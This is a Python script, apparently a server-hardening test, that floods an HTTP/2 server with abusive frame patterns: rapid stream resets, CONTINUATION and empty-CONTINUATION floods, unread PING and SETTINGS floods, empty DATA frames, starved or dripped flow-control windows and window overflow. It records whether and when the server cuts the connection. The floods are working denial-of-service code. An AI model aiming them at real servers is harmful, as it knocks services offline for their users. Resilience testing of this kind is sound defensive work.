"""Peers that abuse HTTP/2, with Python's `h2` and `hyperframe`: what of it, and how the server ends it.

    h2_abuse.py HOST:PORT TOKEN KIND PATH

Prints one JSON object: whether the server ended the connection, after how many frames and how many seconds.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe import frame as frames

where, token, kind, path = sys.argv[1:]
host, port = where.rsplit(":", 1)
MOST = 5_000_000  # frames
LONGEST = 40  # seconds

sock = socket.create_connection((host, int(port)))
sock.settimeout(0)
connection = h2.connection.H2Connection(
    h2.config.H2Configuration(validate_outbound_headers=False, validate_inbound_headers=False)
)
connection.initiate_connection()
started = time.monotonic()
ended = None


def send(data):
    """Sends, reading what comes meanwhile unless this peer never reads. False once the server has had enough."""
    global ended
    view = memoryview(data)
    while view and ended is None:
        if time.monotonic() - started > LONGEST:
            return False
        try:
            view = view[sock.send(view) :]
        except BlockingIOError:
            time.sleep(0.005)
        except OSError as error:
            ended = type(error).__name__
        receive()
    return ended is None


def receive():
    global ended
    if kind in ("ping_unread", "settings_unread"):
        return
    try:
        data = sock.recv(1 << 16)
    except BlockingIOError:
        return
    except OSError as error:
        ended = type(error).__name__
        return
    if not data:
        ended = "closed"
        return
    try:
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                ended = f"goaway {int(event.error_code)}"
    except h2.exceptions.ProtocolError:
        pass


def request(end_stream=True, method="GET"):
    stream = connection.get_next_available_stream_id()
    headers = [
        (":method", method),
        (":scheme", "http"),
        (":authority", where),
        (":path", path),
        ("authorization", f"Bearer {token}"),
    ]
    connection.send_headers(stream, headers, end_stream=end_stream)
    return stream


def rapid_reset():
    stream = request()
    connection.reset_stream(stream, 8)
    return connection.data_to_send()


def flood(make):
    sent = 0
    while sent < MOST and send(make()):
        sent += 1
    return sent


def raw(frame):
    data = frame.serialize()
    return lambda: data


def continuation():
    head = frames.HeadersFrame(1)
    head.data = connection.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
    send(head.serialize())  # without END_HEADERS
    more = frames.ContinuationFrame(1)
    more.data = b"\x00\x01x\x7f\x81\x07" + b"y" * 256
    return flood(raw(more))


def empty_continuation():
    head = frames.HeadersFrame(1)
    head.data = connection.encoder.encode([(":method", "GET")])
    send(head.serialize())
    return flood(raw(frames.ContinuationFrame(1)))


def settings():
    sizes = [65535, 0, 1 << 30]
    one = frames.SettingsFrame(0)
    one.settings = {4: sizes[0], 3: 7}
    return flood(raw(one))


def empty_data():
    stream = request(end_stream=False, method="POST")
    send(connection.data_to_send())
    return flood(raw(frames.DataFrame(stream)))


def shut_window(drip):
    """Asks for large bodies and opens no window for them, or one byte at a time."""
    connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    send(connection.data_to_send())
    streams = [request() for _ in range(20)]
    send(connection.data_to_send())
    sent = 0
    while ended is None and time.monotonic() - started < LONGEST:
        for stream in streams if drip else []:
            one = frames.WindowUpdateFrame(stream)
            one.window_increment = 1
            if not send(one.serialize()):
                break
            sent += 1
        receive()
        time.sleep(0.05)
    return sent


def overflow():
    one = frames.WindowUpdateFrame(0)
    one.window_increment = (1 << 31) - 1
    return flood(raw(one))


ping = frames.PingFrame(0)
ping.opaque_data = b"12345678"
kinds = {
    "rapid_reset": lambda: flood(rapid_reset),
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "ping": lambda: flood(raw(ping)),
    "ping_unread": lambda: flood(raw(ping)),
    "settings": settings,
    "settings_unread": settings,
    "empty_data": empty_data,
    "shut_window": lambda: shut_window(False),
    "dripping_window": lambda: shut_window(True),
    "window_overflow": overflow,
}
send(connection.data_to_send())
count = kinds[kind]()
print(json.dumps({"kind": kind, "ended": ended, "frames": count, "seconds": round(time.monotonic() - started, 2)}))
